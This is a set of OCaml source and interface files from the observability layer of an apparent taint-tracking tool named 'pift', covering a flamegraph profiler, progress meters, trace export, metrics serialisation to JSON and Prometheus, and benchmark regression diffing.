  if r.r_regressions = 0 then Format.fprintf ppf "ok: no regressions@,";
  Format.fprintf ppf "@]@."
