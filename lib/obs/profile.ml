(* Overhead-attribution profiler: hierarchical timed regions folded into
   flamegraph-style stacks.  One instance per worker slot, single
   writer, so recording needs no locks.  [enter]/[leave] cost two clock
   reads plus a hashtable probe at [leave]; the [t option] wrappers keep
   un-profiled runs on a no-op branch, the same discipline as
   [?metrics]/[?flight] elsewhere.

   Attribution rule: a region's *self* time is its wall time minus the
   wall time of the regions entered beneath it, so sibling totals are
   additive and a folded stack sums to the instrumented wall clock.
   Paths are semicolon-joined region names ("pool;replay;tracker;store"),
   the folded-stack format flamegraph.pl and speedscope consume. *)

type frame = {
  f_path : string;  (* folded path including this region *)
  f_start : float;
  mutable f_child : float;  (* seconds spent in entered sub-regions *)
}

type t = {
  mutable stack : frame list;
  totals : (string, float ref) Hashtbl.t;  (* path -> self seconds *)
  mutable order_rev : string list;  (* paths in first-completion order *)
}

let create () = { stack = []; totals = Hashtbl.create 16; order_rev = [] }

let now = Unix.gettimeofday

let enter t name =
  let path =
    match t.stack with [] -> name | f :: _ -> f.f_path ^ ";" ^ name
  in
  t.stack <- { f_path = path; f_start = now (); f_child = 0. } :: t.stack

let leave t =
  match t.stack with
  | [] -> ()
  | f :: rest ->
      let elapsed = now () -. f.f_start in
      let self = Float.max 0. (elapsed -. f.f_child) in
      (match rest with
      | [] -> ()
      | parent :: _ -> parent.f_child <- parent.f_child +. elapsed);
      (match Hashtbl.find_opt t.totals f.f_path with
      | Some r -> r := !r +. self
      | None ->
          Hashtbl.add t.totals f.f_path (ref self);
          t.order_rev <- f.f_path :: t.order_rev);
      t.stack <- rest

let span p name f =
  match p with
  | None -> f ()
  | Some t ->
      enter t name;
      Fun.protect ~finally:(fun () -> leave t) f

let reset t =
  t.stack <- [];
  Hashtbl.reset t.totals;
  t.order_rev <- []

let folded t =
  List.rev_map (fun path -> (path, !(Hashtbl.find t.totals path))) t.order_rev

(* Sum self times by path across worker slots.  Paths keep slot 0's
   first-completion order, then each later slot's new paths, so the
   merged ordering is schedule-independent enough for stable reports
   (the numbers themselves are wall-clock and never byte-stable). *)
let merged ts =
  let totals = Hashtbl.create 16 in
  let order_rev = ref [] in
  Array.iter
    (fun t ->
      List.iter
        (fun (path, v) ->
          match Hashtbl.find_opt totals path with
          | Some r -> r := !r +. v
          | None ->
              Hashtbl.add totals path (ref v);
              order_rev := path :: !order_rev)
        (folded t))
    ts;
  List.rev_map (fun path -> (path, !(Hashtbl.find totals path))) !order_rev

(* --- folded-stack text format ------------------------------------------ *)

(* One "path µs" line per region, self time in integer microseconds —
   directly consumable by flamegraph.pl / speedscope. *)
let to_folded_string rows =
  let buf = Buffer.create 256 in
  List.iter
    (fun (path, seconds) ->
      Buffer.add_string buf path;
      Buffer.add_char buf ' ';
      Buffer.add_string buf
        (string_of_int (int_of_float ((seconds *. 1e6) +. 0.5)));
      Buffer.add_char buf '\n')
    rows;
  Buffer.contents buf

exception Malformed of string

(* Inverse of [to_folded_string]: weights come back as seconds. *)
let parse_folded content =
  let parse_line lineno line =
    match String.rindex_opt line ' ' with
    | None -> raise (Malformed (Printf.sprintf "line %d: no weight" lineno))
    | Some i -> (
        let path = String.sub line 0 i in
        let weight =
          String.sub line (i + 1) (String.length line - i - 1)
        in
        if String.equal path "" then
          raise (Malformed (Printf.sprintf "line %d: empty path" lineno));
        match int_of_string_opt weight with
        | Some us -> (path, float_of_int us /. 1e6)
        | None ->
            raise
              (Malformed
                 (Printf.sprintf "line %d: weight %S is not an integer"
                    lineno weight)))
  in
  let rows = ref [] in
  List.iteri
    (fun i line ->
      let line = String.trim line in
      if not (String.equal line "") then
        rows := parse_line (i + 1) line :: !rows)
    (String.split_on_char '\n' content);
  List.rev !rows

(* Raw-content sniff for [pift report], like [Sink.looks_like_dot]: the
   first non-blank line must be "token ... token <integer>" and not look
   like JSON or DOT. *)
let looks_like_folded content =
  let rec first_line i =
    if i >= String.length content then ""
    else
      match String.index_from_opt content i '\n' with
      | Some j ->
          let line = String.trim (String.sub content i (j - i)) in
          if String.equal line "" then first_line (j + 1) else line
      | None -> String.trim (String.sub content i (String.length content - i))
  in
  let line = first_line 0 in
  (not (String.equal line ""))
  && (not (line.[0] = '{' || line.[0] = '['))
  &&
  match String.rindex_opt line ' ' with
  | None -> false
  | Some i ->
      i > 0
      && int_of_string_opt
           (String.sub line (i + 1) (String.length line - i - 1))
         <> None

(* --- per-subsystem breakdown ------------------------------------------- *)

let leaf path =
  match String.rindex_opt path ';' with
  | None -> path
  | Some i -> String.sub path (i + 1) (String.length path - i - 1)

(* Group self time by region name (the last path segment): every
   appearance of e.g. "store" contributes to one subsystem row whatever
   it was nested under. *)
let breakdown rows =
  let totals = Hashtbl.create 8 in
  let order_rev = ref [] in
  List.iter
    (fun (path, v) ->
      let key = leaf path in
      match Hashtbl.find_opt totals key with
      | Some r -> r := !r +. v
      | None ->
          Hashtbl.add totals key (ref v);
          order_rev := key :: !order_rev)
    rows;
  let total =
    List.fold_left (fun acc (_, v) -> acc +. v) 0. rows
  in
  let by_share =
    List.sort
      (fun (_, a) (_, b) -> compare (b : float) a)
      (List.rev_map (fun key -> (key, !(Hashtbl.find totals key))) !order_rev)
  in
  List.map
    (fun (key, v) ->
      (key, v, if total > 0. then 100. *. v /. total else 0.))
    by_share

let render ?(source = "") rows ppf () =
  Format.fprintf ppf "== overhead attribution%s ==@."
    (if String.equal source "" then "" else Printf.sprintf " (%s)" source);
  let total = List.fold_left (fun acc (_, v) -> acc +. v) 0. rows in
  Format.fprintf ppf "@[<v>%d regions, %.1f ms attributed@,"
    (List.length rows) (1000. *. total);
  let rows_b = breakdown rows in
  if rows_b <> [] then begin
    Format.fprintf ppf "@,%-20s %12s %8s@," "subsystem" "self ms" "share";
    List.iter
      (fun (name, seconds, pct) ->
        Format.fprintf ppf "%-20s %12.2f %7.1f%%@," name (1000. *. seconds)
          pct)
      rows_b
  end;
  let hottest =
    List.filteri
      (fun i _ -> i < 8)
      (List.sort (fun (_, a) (_, b) -> compare (b : float) a) rows)
  in
  if hottest <> [] then begin
    Format.fprintf ppf "@,hottest stacks (self time):@,";
    List.iter
      (fun (path, seconds) ->
        Format.fprintf ppf "  %-44s %10.2f ms@," path (1000. *. seconds))
      hottest
  end;
  Format.fprintf ppf "@]@."
