(* Live progress for long sweeps.  On a terminal: a single stderr
   status line rewritten in place (carriage return, no newline until
   [finish]).  Off a terminal, an explicitly enabled meter degrades to
   plain log lines — one every [log_every] steps — because repainting
   with carriage returns turns CI logs into megabytes of \r spam.
   Writes only to stderr so metered and unmetered runs keep
   byte-identical stdout; off by default when stderr is not a tty.
   Steps may arrive from any worker domain, so the counter and the
   throttled repaint are guarded by a mutex — this is per-cell, not
   per-event, so the lock is cold. *)

type mode = Off | Live | Log of int

type t = {
  label : string;
  total : int;
  mode : mode;
  started : float;
  mu : Mutex.t;
  mutable done_ : int;
  mutable last_paint : float;
  mutable last_logged : int;
  mutable painted : bool;
}

let default_log_every = 25

let create ?enabled ?(log_every = default_log_every) ~label ~total () =
  let tty = Unix.isatty Unix.stderr in
  let mode =
    match enabled with
    | Some false -> Off
    | Some true -> if tty then Live else Log (max 1 log_every)
    | None -> if tty then Live else Off
  in
  {
    label;
    total = max 0 total;
    mode;
    started = Unix.gettimeofday ();
    mu = Mutex.create ();
    done_ = 0;
    last_paint = 0.;
    last_logged = -1;
    painted = false;
  }

let rate t ~now =
  let elapsed = now -. t.started in
  if elapsed > 0. then float_of_int t.done_ /. elapsed else 0.

let paint t ~now =
  let rate = rate t ~now in
  let eta =
    if rate > 0. && t.done_ < t.total then
      Printf.sprintf " ETA %.0fs" (float_of_int (t.total - t.done_) /. rate)
    else ""
  in
  Printf.eprintf "\r%s: %d/%d (%.1f/s)%s    " t.label t.done_ t.total rate eta;
  flush stderr;
  t.painted <- true;
  t.last_paint <- now

let log_line t ~now =
  Printf.eprintf "%s: %d/%d (%.1f/s)\n" t.label t.done_ t.total (rate t ~now);
  flush stderr;
  t.last_logged <- t.done_

let step t =
  match t.mode with
  | Off -> ()
  | Live ->
      Mutex.lock t.mu;
      t.done_ <- t.done_ + 1;
      let now = Unix.gettimeofday () in
      if now -. t.last_paint >= 0.1 || t.done_ >= t.total then paint t ~now;
      Mutex.unlock t.mu
  | Log every ->
      Mutex.lock t.mu;
      t.done_ <- t.done_ + 1;
      if t.done_ mod every = 0 || t.done_ >= t.total then
        log_line t ~now:(Unix.gettimeofday ());
      Mutex.unlock t.mu

let finish t =
  match t.mode with
  | Off -> ()
  | Live ->
      Mutex.lock t.mu;
      paint t ~now:(Unix.gettimeofday ());
      prerr_newline ();
      flush stderr;
      t.painted <- false;
      Mutex.unlock t.mu
  | Log _ ->
      Mutex.lock t.mu;
      if t.last_logged <> t.done_ then log_line t ~now:(Unix.gettimeofday ());
      Mutex.unlock t.mu
