(* Live progress for long sweeps: a single stderr status line rewritten
   in place (carriage return, no newline until [finish]).  Writes only
   to stderr so traced and untraced runs keep byte-identical stdout; off
   by default when stderr is not a tty.  Steps may arrive from any
   worker domain, so the counter and the throttled repaint are guarded
   by a mutex — this is per-cell, not per-event, so the lock is cold. *)

type t = {
  label : string;
  total : int;
  enabled : bool;
  started : float;
  mu : Mutex.t;
  mutable done_ : int;
  mutable last_paint : float;
  mutable painted : bool;
}

let create ?enabled ~label ~total () =
  let enabled =
    match enabled with Some b -> b | None -> Unix.isatty Unix.stderr
  in
  {
    label;
    total = max 0 total;
    enabled;
    started = Unix.gettimeofday ();
    mu = Mutex.create ();
    done_ = 0;
    last_paint = 0.;
    painted = false;
  }

let paint t ~now =
  let elapsed = now -. t.started in
  let rate = if elapsed > 0. then float_of_int t.done_ /. elapsed else 0. in
  let eta =
    if rate > 0. && t.done_ < t.total then
      Printf.sprintf " ETA %.0fs" (float_of_int (t.total - t.done_) /. rate)
    else ""
  in
  Printf.eprintf "\r%s: %d/%d (%.1f/s)%s    " t.label t.done_ t.total rate eta;
  flush stderr;
  t.painted <- true;
  t.last_paint <- now

let step t =
  if t.enabled then begin
    Mutex.lock t.mu;
    t.done_ <- t.done_ + 1;
    let now = Unix.gettimeofday () in
    if now -. t.last_paint >= 0.1 || t.done_ >= t.total then paint t ~now;
    Mutex.unlock t.mu
  end

let finish t =
  if t.enabled then begin
    Mutex.lock t.mu;
    paint t ~now:(Unix.gettimeofday ());
    prerr_newline ();
    flush stderr;
    t.painted <- false;
    Mutex.unlock t.mu
  end
