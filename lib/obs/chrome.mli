(** Chrome trace-event / Perfetto JSON export and inspection.

    [json] renders a merged {!Timeline} as the JSON object format
    consumed by ui.perfetto.dev and chrome://tracing: a ["traceEvents"]
    array of [B]/[E] (span), [i] (instant) and [C] (counter) records
    with timestamps in microseconds, [pid] 1 and one [tid] per pool
    worker slot, plus [M]etadata records naming the process and each
    worker thread.

    Ring wrap-around can strand span halves; the exporter repairs them
    ([End] without an open span is dropped, still-open spans are closed
    at the track's final timestamp), so emitted traces always pass
    {!validate}. *)

exception Invalid of string

val json : ?run:string -> Timeline.t -> Json.t
(** [?run] names the process in the trace UI (default ["pift"]). *)

val write : out_channel -> ?run:string -> Timeline.t -> unit
(** [json] followed by a newline, serialized to [oc]. *)

(** {1 Decoding} *)

type check = {
  c_tracks : int;  (** worker tracks ([thread_name] metadata records) *)
  c_events : int;  (** non-metadata events *)
  c_spans : int;  (** balanced [B]/[E] pairs *)
  c_instants : int;
  c_samples : int;  (** counter samples *)
  c_flows : int;  (** flow events ([s]/[t]/[f] — provenance edges) *)
  c_counter_names : string list;  (** distinct counter tracks, sorted *)
}

val validate : Json.t -> (check, string) result
(** Structural check used by tests and CI: [traceEvents] is present,
    every event carries [ph]/[pid]/[tid] (plus [name]/[ts] where the
    phase requires them, and [id] for flow phases), timestamps are
    non-negative and non-decreasing per [tid], and [B]/[E] nest and
    balance on every track. *)

val is_trace : Json.t -> bool
(** True when the object has a [traceEvents] key — how [pift report]
    sniffs trace files apart from metrics snapshots. *)

val summarize : Json.t -> Format.formatter -> unit -> unit
(** Human summary for [pift report]: track/event counts, per-phase time
    (span names grouped up to the first ['('] or [':']), per-worker
    busy-time utilization, and the slowest spans.

    @raise Invalid on a malformed trace (same checks as {!validate}). *)
