(** [pift top]: a live multi-line stderr dashboard — the multi-row
    sibling of {!Progress}.

    One header line (units done, rate, ETA) plus one line per worker
    slot with events seen, snapshot-ring health, and the latest
    telemetry readings (tainted bytes, ranges, store occupancy).
    Frames repaint in place with ANSI cursor movement, so the view is
    gated on [Unix.isatty Unix.stderr]: off a terminal every call is a
    no-op and nothing is ever written.  Stdout is never touched.
    {!step} and the telemetry-snapshot hook are safe to call from any
    worker domain. *)

type t

val create :
  ?enabled:bool ->
  label:string ->
  ?total:int ->
  ?telems:Telemetry.t array ->
  ?rings:Flight.t array ->
  unit ->
  t
(** [?enabled] defaults to [Unix.isatty Unix.stderr].  [telems] gives
    one per-slot line each and — via {!Telemetry.on_snapshot} — drives
    mid-phase repaints; [rings] adds flight-ring drop counts.  [total]
    may be [0] (elapsed time replaces the done/total counter) and set
    later with {!set_total}. *)

val enabled : t -> bool

val set_total : t -> int -> unit

val step : t -> unit
(** Count one unit done; repaints at most every 0.1 s. *)

val finish : t -> unit
(** Final frame, left in scrollback.  Idempotent. *)
