module R = Registry

(* --- JSON encoding ----------------------------------------------------- *)

let json_of_labels labels =
  Json.Obj (List.map (fun (k, v) -> (k, Json.String v)) labels)

let json_of_point (labels, point) =
  let base = [ ("labels", json_of_labels labels) ] in
  match point with
  | R.P_counter v -> Json.Obj (base @ [ ("value", Json.Int v) ])
  | R.P_gauge { value; peak } ->
      Json.Obj (base @ [ ("value", Json.Float value); ("peak", Json.Float peak) ])
  | R.P_histogram { count; sum; vmax; buckets } ->
      Json.Obj
        (base
        @ [
            ("count", Json.Int count);
            ("sum", Json.Int sum);
            ("max", Json.Int vmax);
            ( "buckets",
              Json.List
                (List.map
                   (fun (ub, n) -> Json.List [ Json.Int ub; Json.Int n ])
                   buckets) );
          ])

let json_of_sample (s : R.sample) =
  Json.Obj
    [
      ("name", Json.String s.R.s_name);
      ("kind", Json.String (R.kind_to_string s.R.s_kind));
      ("help", Json.String s.R.s_help);
      ("points", Json.List (List.map json_of_point s.R.s_points));
    ]

let rec json_of_span span =
  Json.Obj
    [
      ("name", Json.String (Span.name span));
      ("seconds", Json.Float (Span.seconds span));
      ("children", Json.List (List.map json_of_span (Span.children span)));
    ]

let snapshot_to_json ?(run = "") ?(spans = []) samples =
  let fields =
    (if String.equal run "" then [] else [ ("run", Json.String run) ])
    @ [
        ("metrics", Json.List (List.map json_of_sample samples));
        ("spans", Json.List (List.map json_of_span spans));
      ]
  in
  Json.Obj fields

let write_jsonl oc json =
  output_string oc (Json.to_string json);
  output_char oc '\n'

(* --- JSON decoding (pift report / tests) ------------------------------- *)

exception Malformed of string

(* Format sniffing for [pift report]: decide by the keys that are
   present, never by the ones that aren't, so files from newer builds
   with extra top-level fields still classify — and genuinely foreign
   objects are reported as skippable rather than as hard errors. *)
type file_kind =
  | Metrics_snapshot
  | Trace
  | Flow_graph
  | Attribution
  | Telemetry
  | Unknown of string list

(* Provenance exports carry both their own handle and ["traceEvents"]
   (flow-graph files are valid Perfetto traces), so the specific keys
   must win over the generic ones. *)
let classify = function
  | Json.Obj fields ->
      if List.mem_assoc "pift_flow_graph" fields then Flow_graph
      else if List.mem_assoc "pift_attribution" fields then Attribution
      else if List.mem_assoc "pift_telemetry" fields then Telemetry
      else if List.mem_assoc "metrics" fields then Metrics_snapshot
      else if List.mem_assoc "traceEvents" fields then Trace
      else Unknown (List.map fst fields)
  | _ -> Unknown []

(* DOT exports are not JSON at all; [pift report] sniffs them on raw
   file content before attempting a parse. *)
let looks_like_dot content =
  let rec first_line i =
    if i >= String.length content then ""
    else
      match String.index_from_opt content i '\n' with
      | Some j ->
          let line = String.trim (String.sub content i (j - i)) in
          if String.equal line "" then first_line (j + 1) else line
      | None -> String.trim (String.sub content i (String.length content - i))
  in
  let line = first_line 0 in
  String.length line >= 7 && String.equal (String.sub line 0 7) "digraph"

let get ~ctx what = function
  | Some v -> v
  | None -> raise (Malformed (Printf.sprintf "%s: missing %s" ctx what))

let labels_of_json j =
  match j with
  | Json.Obj fields ->
      List.map
        (fun (k, v) ->
          (k, get ~ctx:"labels" "string value" (Json.to_str v)))
        fields
  | _ -> raise (Malformed "labels: expected object")

let point_of_json ~kind j =
  let labels =
    match Json.member "labels" j with
    | Some l -> labels_of_json l
    | None -> []
  in
  let point =
    match kind with
    | R.Counter_kind ->
        R.P_counter
          (get ~ctx:"counter point" "value"
             (Option.bind (Json.member "value" j) Json.to_int))
    | R.Gauge_kind ->
        R.P_gauge
          {
            value =
              get ~ctx:"gauge point" "value"
                (Option.bind (Json.member "value" j) Json.to_float);
            peak =
              get ~ctx:"gauge point" "peak"
                (Option.bind (Json.member "peak" j) Json.to_float);
          }
    | R.Histogram_kind ->
        let int_field name =
          get ~ctx:"histogram point" name
            (Option.bind (Json.member name j) Json.to_int)
        in
        let buckets =
          List.map
            (fun pair ->
              match Json.to_list pair with
              | Some [ ub; n ] ->
                  ( get ~ctx:"bucket" "bound" (Json.to_int ub),
                    get ~ctx:"bucket" "count" (Json.to_int n) )
              | Some _ | None -> raise (Malformed "bucket: expected pair"))
            (get ~ctx:"histogram point" "buckets"
               (Option.bind (Json.member "buckets" j) Json.to_list))
        in
        R.P_histogram
          { count = int_field "count"; sum = int_field "sum";
            vmax = int_field "max"; buckets }
  in
  (labels, point)

let kind_of_string = function
  | "counter" -> R.Counter_kind
  | "gauge" -> R.Gauge_kind
  | "histogram" -> R.Histogram_kind
  | s -> raise (Malformed ("unknown metric kind " ^ s))

let sample_of_json j : R.sample =
  let str name =
    get ~ctx:"metric" name (Option.bind (Json.member name j) Json.to_str)
  in
  let kind = kind_of_string (str "kind") in
  {
    R.s_name = str "name";
    s_help = (match Json.member "help" j with
             | Some h -> Option.value ~default:"" (Json.to_str h)
             | None -> "");
    s_kind = kind;
    s_points =
      List.map (point_of_json ~kind)
        (get ~ctx:"metric" "points"
           (Option.bind (Json.member "points" j) Json.to_list));
  }

let samples_of_json j =
  match Option.bind (Json.member "metrics" j) Json.to_list with
  | Some metrics -> List.map sample_of_json metrics
  | None -> raise (Malformed "snapshot: missing metrics array")

let rec span_of_json j =
  let name =
    get ~ctx:"span" "name" (Option.bind (Json.member "name" j) Json.to_str)
  in
  let seconds =
    get ~ctx:"span" "seconds"
      (Option.bind (Json.member "seconds" j) Json.to_float)
  in
  let children =
    match Option.bind (Json.member "children" j) Json.to_list with
    | Some l -> List.map span_of_json l
    | None -> []
  in
  Span.make ~name ~seconds children

let spans_of_json j =
  match Option.bind (Json.member "spans" j) Json.to_list with
  | Some spans -> List.map span_of_json spans
  | None -> []

let run_of_json j =
  Option.value ~default:""
    (Option.bind (Json.member "run" j) Json.to_str)

(* --- Prometheus text exposition ---------------------------------------- *)

let prom_number f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.0f" f
  else Printf.sprintf "%g" f

(* Label values per the exposition format: exactly backslash, double
   quote, and newline are escaped.  OCaml's %S is close but wrong — it
   also mangles tabs and non-printables into OCaml-style decimal
   escapes Prometheus parsers reject.  Adversarial marker kinds reach
   labels (the per-pid families key on externally influenced strings),
   so this must be exact. *)
let prom_escape v =
  let buf = Buffer.create (String.length v + 2) in
  String.iter
    (fun c ->
      match c with
      | '\\' -> Buffer.add_string buf "\\\\"
      | '"' -> Buffer.add_string buf "\\\""
      | '\n' -> Buffer.add_string buf "\\n"
      | c -> Buffer.add_char buf c)
    v;
  Buffer.contents buf

let prom_labels = function
  | [] -> ""
  | labels ->
      let field (k, v) = Printf.sprintf "%s=\"%s\"" k (prom_escape v) in
      "{" ^ String.concat "," (List.map field labels) ^ "}"

let prom_header ppf ~name ~help ~kind =
  if not (String.equal help "") then
    Format.fprintf ppf "# HELP %s %s@," name help;
  Format.fprintf ppf "# TYPE %s %s@," name (R.kind_to_string kind)

let prometheus samples ppf () =
  Format.fprintf ppf "@[<v>";
  List.iter
    (fun (s : R.sample) ->
      let name = s.R.s_name in
      (match s.R.s_kind with
      | R.Counter_kind | R.Gauge_kind ->
          prom_header ppf ~name ~help:s.R.s_help ~kind:s.R.s_kind
      | R.Histogram_kind ->
          prom_header ppf ~name ~help:s.R.s_help ~kind:R.Histogram_kind);
      List.iter
        (fun (labels, point) ->
          match point with
          | R.P_counter v ->
              Format.fprintf ppf "%s%s %d@," name (prom_labels labels) v
          | R.P_gauge { value; _ } ->
              Format.fprintf ppf "%s%s %s@," name (prom_labels labels)
                (prom_number value)
          | R.P_histogram { count; sum; buckets; _ } ->
              let cumulative = ref 0 in
              List.iter
                (fun (ub, n) ->
                  cumulative := !cumulative + n;
                  Format.fprintf ppf "%s_bucket%s %d@," name
                    (prom_labels (labels @ [ ("le", string_of_int ub) ]))
                    !cumulative)
                buckets;
              Format.fprintf ppf "%s_bucket%s %d@," name
                (prom_labels (labels @ [ ("le", "+Inf") ]))
                count;
              Format.fprintf ppf "%s_sum%s %d@," name (prom_labels labels)
                sum;
              Format.fprintf ppf "%s_count%s %d@," name (prom_labels labels)
                count)
        s.R.s_points;
      (* Gauge peaks are worth keeping across a run; expose them as a
         sibling gauge. *)
      match s.R.s_kind with
      | R.Gauge_kind ->
          prom_header ppf ~name:(name ^ "_peak") ~help:"" ~kind:R.Gauge_kind;
          List.iter
            (fun (labels, point) ->
              match point with
              | R.P_gauge { peak; _ } ->
                  Format.fprintf ppf "%s_peak%s %s@," name
                    (prom_labels labels) (prom_number peak)
              | R.P_counter _ | R.P_histogram _ -> ())
            s.R.s_points
      | R.Counter_kind | R.Histogram_kind -> ())
    samples;
  Format.fprintf ppf "@]@?"

(* --- human summary ----------------------------------------------------- *)

let label_suffix = function
  | [] -> ""
  | labels -> prom_labels labels

(* Each section is its own closed box: Textplot renderers end with a
   flush, which would tear an enclosing vbox apart. *)
let render ?(run = "") ?(spans = []) samples ppf () =
  Format.fprintf ppf "== metrics snapshot%s ==@."
    (if String.equal run "" then "" else Printf.sprintf " (%s)" run);
  if spans <> [] then begin
    Format.fprintf ppf "@[<v>@,spans:@,";
    List.iter
      (fun root ->
        Span.iter
          (fun ~depth span ->
            Format.fprintf ppf "  %s%-*s %10.3f ms@,"
              (String.make (2 * depth) ' ')
              (max 1 (28 - (2 * depth)))
              (Span.name span)
              (1000. *. Span.seconds span))
          root)
      spans;
    Format.fprintf ppf "@]@."
  end;
  let counters =
    List.concat_map
      (fun (s : R.sample) ->
        match s.R.s_kind with
        | R.Counter_kind ->
            List.filter_map
              (fun (labels, point) ->
                match point with
                | R.P_counter v ->
                    Some (s.R.s_name ^ label_suffix labels, float_of_int v)
                | R.P_gauge _ | R.P_histogram _ -> None)
              s.R.s_points
        | R.Gauge_kind | R.Histogram_kind -> [])
      samples
  in
  if counters <> [] then
    Pift_util.Textplot.bar_chart ~title:"counters" counters ppf ();
  let gauges =
    List.concat_map
      (fun (s : R.sample) ->
        match s.R.s_kind with
        | R.Gauge_kind ->
            List.filter_map
              (fun (labels, point) ->
                match point with
                | R.P_gauge { value; peak } ->
                    Some (s.R.s_name ^ label_suffix labels, value, peak)
                | R.P_counter _ | R.P_histogram _ -> None)
              s.R.s_points
        | R.Counter_kind | R.Histogram_kind -> [])
      samples
  in
  if gauges <> [] then begin
    Format.fprintf ppf "@[<v>gauges:@,";
    List.iter
      (fun (name, value, peak) ->
        Format.fprintf ppf "  %-40s %14s (peak %s)@," name
          (prom_number value) (prom_number peak))
      gauges;
    Format.fprintf ppf "@]@."
  end;
  let histograms =
    List.concat_map
      (fun (s : R.sample) ->
        match s.R.s_kind with
        | R.Histogram_kind ->
            List.filter_map
              (fun (labels, point) ->
                match point with
                | R.P_histogram { count; sum; vmax; _ } ->
                    Some (s.R.s_name ^ label_suffix labels, count, sum, vmax)
                | R.P_counter _ | R.P_gauge _ -> None)
              s.R.s_points
        | R.Counter_kind | R.Gauge_kind -> [])
      samples
  in
  if histograms <> [] then begin
    Format.fprintf ppf "@[<v>histograms:@,";
    List.iter
      (fun (name, count, sum, vmax) ->
        let mean =
          if count = 0 then 0. else float_of_int sum /. float_of_int count
        in
        Format.fprintf ppf "  %-40s n=%d mean=%.2f max=%d@," name count mean
          vmax)
      histograms;
    Format.fprintf ppf "@]@."
  end

let render_json j ppf () =
  let samples = samples_of_json j in
  let spans = spans_of_json j in
  render ~run:(run_of_json j) ~spans samples ppf ()

(* --- provenance exports (pift report) ----------------------------------- *)

let render_flow_graph_json j ppf () =
  let g =
    get ~ctx:"flow graph" "pift_flow_graph" (Json.member "pift_flow_graph" j)
  in
  let int name =
    get ~ctx:"flow graph" name (Option.bind (Json.member name g) Json.to_int)
  in
  let run =
    Option.value ~default:""
      (Option.bind (Json.member "run" g) Json.to_str)
  in
  Format.fprintf ppf "== provenance flow graph%s ==@."
    (if String.equal run "" then "" else Printf.sprintf " (%s)" run);
  Format.fprintf ppf "@[<v>%d nodes, %d edges@," (int "nodes") (int "edges");
  let sinks =
    Option.value ~default:[]
      (Option.bind (Json.member "sinks" g) Json.to_list)
  in
  List.iter
    (fun s ->
      let str name =
        get ~ctx:"flow sink" name
          (Option.bind (Json.member name s) Json.to_str)
      in
      let int name =
        get ~ctx:"flow sink" name
          (Option.bind (Json.member name s) Json.to_int)
      in
      let origins =
        List.filter_map Json.to_str
          (Option.value ~default:[]
             (Option.bind (Json.member "origins" s) Json.to_list))
      in
      Format.fprintf ppf "  sink %-6s @%-8d %d-node path <- %s@," (str "kind")
        (int "seq") (int "path_nodes")
        (if origins = [] then "(clean)" else String.concat ", " origins))
    sinks;
  if sinks = [] then Format.fprintf ppf "  (no flagged sinks)@,";
  Format.fprintf ppf "@]@."

let render_attribution_json j ppf () =
  let a =
    get ~ctx:"attribution" "pift_attribution"
      (Json.member "pift_attribution" j)
  in
  let int name =
    get ~ctx:"attribution" name
      (Option.bind (Json.member name a) Json.to_int)
  in
  let mean =
    Option.value ~default:0.
      (Option.bind (Json.member "mean_jaccard" a) Json.to_float)
  in
  Format.fprintf ppf "== attribution accuracy ==@.";
  Format.fprintf ppf
    "@[<v>%d true-positive sinks: %d exact, %d over, %d under, %d mixed; \
     mean Jaccard %.3f@,"
    (int "sinks") (int "exact") (int "over") (int "under") (int "mixed") mean;
  List.iter
    (fun r ->
      let str name =
        Option.value ~default:""
          (Option.bind (Json.member name r) Json.to_str)
      in
      let set name =
        match
          List.filter_map Json.to_str
            (Option.value ~default:[]
               (Option.bind (Json.member name r) Json.to_list))
        with
        | [] -> "-"
        | l -> String.concat "," l
      in
      Format.fprintf ppf "  %-22s sink %-6s %-6s pift=%s dift=%s@,"
        (str "app") (str "sink") (str "class") (set "pift") (set "dift"))
    (Option.value ~default:[]
       (Option.bind (Json.member "rows" j) Json.to_list));
  Format.fprintf ppf "@]@."
