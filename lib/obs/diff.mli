(** Structural comparison of two metrics/bench JSON files with
    configurable regression thresholds — the engine behind
    [pift report --diff A B] and the CI gate over the committed
    [BENCH_*.json] trajectory.

    Objects pair fields by key; lists whose elements all carry a
    ["name"] member pair by name (metrics arrays survive reordering),
    other lists by index.  Each numeric field gets a {e direction}
    inferred from its path — seconds/bytes/stalls are worse when
    higher, throughputs/speedups/accuracies worse when lower, anything
    else is informational — and a change only {e regresses} when it
    moves in the worse direction by more than [max_ratio] {b and} by at
    least [min_abs] absolute (the floor that keeps sub-millisecond
    microbenchmark noise from failing a gate).  A [true -> false] bool
    flip (e.g. a bench's [identical_cells]) is always a regression. *)

type direction = Higher_worse | Lower_worse | Neutral

type change = {
  c_path : string;  (** dotted path, list indices as [\[i\]] *)
  c_base : float;
  c_cur : float;
  c_direction : direction;
  c_severity : float;
      (** ratio in the worse direction; [1.0] when not worse,
          [infinity] against a zero baseline *)
  c_regressed : bool;
}

type result = {
  r_changes : change list;  (** numeric fields that differ, walk order *)
  r_notes : string list;
      (** structural and non-numeric differences (missing fields, shape
          or string changes, bool flips) *)
  r_compared : int;  (** numeric fields compared *)
  r_regressions : int;  (** regressed changes plus regression notes *)
}

val direction_of_path : string -> direction

val default_max_ratio : float
(** 1.25. *)

val compare_json :
  ?max_ratio:float ->
  ?min_abs:float ->
  baseline:Json.t ->
  current:Json.t ->
  unit ->
  result
(** [max_ratio] defaults to {!default_max_ratio}, [min_abs] to [0.]. *)

val render :
  ?label_a:string ->
  ?label_b:string ->
  result ->
  Format.formatter ->
  unit ->
  unit
(** Human summary: regressions first, then benign changes and notes,
    or an explicit ["ok: no regressions"]. *)
