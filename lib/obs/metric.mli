(** The three primitive instruments behind the {!Registry}.

    Counters and gauges are single mutable cells so the hot-path cost of
    an increment is one write; histograms are log2-bucketed so [observe]
    is a constant-time bucket increment with no allocation. *)

module Counter : sig
  type t

  val create : unit -> t
  val incr : t -> unit

  val add : t -> int -> unit
  (** Raises [Invalid_argument] on a negative increment — counters are
      monotone. *)

  val value : t -> int

  val merge_into : into:t -> t -> unit
  (** Add this counter's total into [into]. *)
end

module Gauge : sig
  type t

  val create : unit -> t

  val set : t -> int -> unit
  val set_float : t -> float -> unit

  val value : t -> float

  val peak : t -> float
  (** Highest value ever set (the registry snapshots both). *)

  val merge_into : into:t -> t -> unit
  (** Keep the maximum of value and peak — concurrent workers have no
      shared "last write", so a merged gauge reads as a high-water mark. *)
end

module Histogram : sig
  type t

  val create : unit -> t

  val observe : t -> int -> unit
  (** O(1): increments the log2 bucket of the observation. *)

  val bucket_of : int -> int
  (** Bucket index: 0 for values <= 0; [b >= 1] covers
      [\[2^(b-1), 2^b - 1\]]. *)

  val lower_bound : int -> int
  val upper_bound : int -> int
